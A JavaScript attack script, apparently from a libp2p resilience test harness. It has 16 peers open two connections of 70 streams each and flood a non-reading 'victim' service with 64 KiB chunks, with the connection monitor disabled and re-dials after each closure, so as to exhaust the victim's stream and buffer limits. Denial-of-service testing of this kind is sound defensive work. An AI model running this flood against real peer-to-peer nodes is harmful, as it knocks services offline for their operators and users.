// 16 peers that keep to the protocol and fill what the victim may hold: two connections of 70 streams each that send until
// they may not, to a service that does not read. That is twice as much as there is: whatever is ended, the others take its room.
import { createLibp2p, nodeDefaults } from '@weft/libp2p'
import { multiaddr } from '@weft/multiaddr'
import { answer, settings } from '../lib/answer.mjs'
import { sleep } from '../lib/statistics.mjs'

const PEERS = 16
const STREAMS = 70
const CONNECTIONS = 2
const CHUNK = new Uint8Array(65_536)
const PAUSE_MS = 250

const address = multiaddr(settings.address)
let opened = 0
let ended = 0
let dials = 0

async function hoard(node) {
  for (;;) {
    try {
      const connection = await node.dial(address, { force: true })
      dials++
      await Promise.all(Array.from({ length: STREAMS }, () => keepFull(connection)))
    } catch {
      await sleep(PAUSE_MS)
    }
    await sleep(PAUSE_MS)
  }
}

async function keepFull(connection) {
  while (connection.status === 'open') {
    try {
      const stream = await connection.newStream('/flood/slow/1.0.0', { maxOutboundStreams: STREAMS * CONNECTIONS })
      opened++
      while (stream.status === 'open') {
        if (!stream.send(CHUNK)) await stream.onDrain()
      }
    } catch {
      // Ended by the victim: that is what it is for.
    }
    ended++
    await sleep(PAUSE_MS)
  }
}

answer({
  ready() {},
  async start() {
    // One after the other, as the victim lets three handshakes of an address be under way.
    for (let i = 0; i < PEERS; i++) {
      // It does not mind that the victim reads no more.
      const node = await createLibp2p({ ...nodeDefaults(), connectionMonitor: { enabled: false } })
      for (let made = 1; made <= CONNECTIONS; made++) {
        void hoard(node)
        while (node.getConnections().length < made) await sleep(PAUSE_MS)
      }
    }
  },
  report: () => ({ opened, ended, dials })
})
